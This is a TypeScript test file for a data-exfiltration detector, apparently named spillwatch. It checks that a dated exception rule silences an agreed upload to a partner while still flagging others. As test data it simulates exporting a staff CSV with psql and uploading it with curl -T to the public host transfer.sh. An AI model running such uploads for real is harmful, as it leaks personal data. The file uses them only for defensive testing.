import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RULES_FOLDER } from '../../../rules/resources.ts';
import { RuleIndex } from '../../../rules/sigma/index.ts';
import { loadRules } from '../../../rules/sigma/load.ts';
import { replayed } from '../../support/replay.ts';
import { PROGRAMS, Story } from '../../support/story.ts';

const EXCEPTION = `
title: Nightly Report of the Finance Team
id: 5f1d2c3b-4a59-4e68-8b77-1c2d3e4f5a6b
logsource: { product: macos, category: data_movement }
filter:
  rules: any
  selection:
    User: maria
    Destination: files.partner.example
  condition: not selection
spillwatch:
  owner: finance@acme.example
  reason: agreed delivery to a partner
  ticket: SEC-41
  expires: 2026-11-30
`;

let folder: string;
let rules: RuleIndex;

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'spillwatch-exceptions-'));
  writeFileSync(join(folder, 'finance.yml'), EXCEPTION);
  const { rules: excepted, problems } = loadRules(folder);
  if (problems.length > 0)
    throw new Error(`the exception does not load: ${JSON.stringify(problems)}`);
  rules = new RuleIndex(loadRules(RULES_FOLDER).rules.all, excepted.exceptions);
});

afterAll(() => {
  rmSync(folder, { recursive: true, force: true });
});

/** Maria exports with psql and sends the file to each of the URLs, one after the other. */
function sending(start: string, ...urls: readonly string[]): Story {
  const s = new Story({ start }).host();
  const shell = s.shell();
  const psql = s.run(shell, { ...PROGRAMS.psql, args: ['psql', 'crm'] });
  s.wait(3).write(psql, '/Users/maria/Documents/staff.csv').exit(psql);
  for (const url of urls)
    s.wait(30).run(shell, {
      ...PROGRAMS.curl,
      args: ['curl', '-T', '/Users/maria/Documents/staff.csv', url],
    });
  return s;
}

const PARTNER = 'https://files.partner.example/in';

describe('an exception', () => {
  it('keeps the step it is about silent, and counts', () => {
    const { last, store } = replayed(sending('2026-11-02T09:00:00Z', PARTNER), {}, rules);
    expect(last).toMatchObject([{ stage: 'export' }]);
    expect([...store.exceptionHits().values()]).toMatchObject([{ hits: 1 }]);
  });

  it('does not hide a later step that it says nothing of', () => {
    const story = sending('2026-11-02T09:00:00Z', PARTNER, 'https://transfer.sh/x');
    expect(replayed(story, {}, rules).last).toMatchObject([
      { stage: 'upload', severity: 'critical', destination: 'transfer.sh' },
    ]);
  });

  it('is no longer in force after the day it expires', () => {
    const { last, store } = replayed(sending('2026-12-01T00:00:00Z', PARTNER), {}, rules);
    expect(last).toMatchObject([{ stage: 'upload', destination: 'files.partner.example' }]);
    expect(store.exceptionHits().size).toBe(0);
  });
});
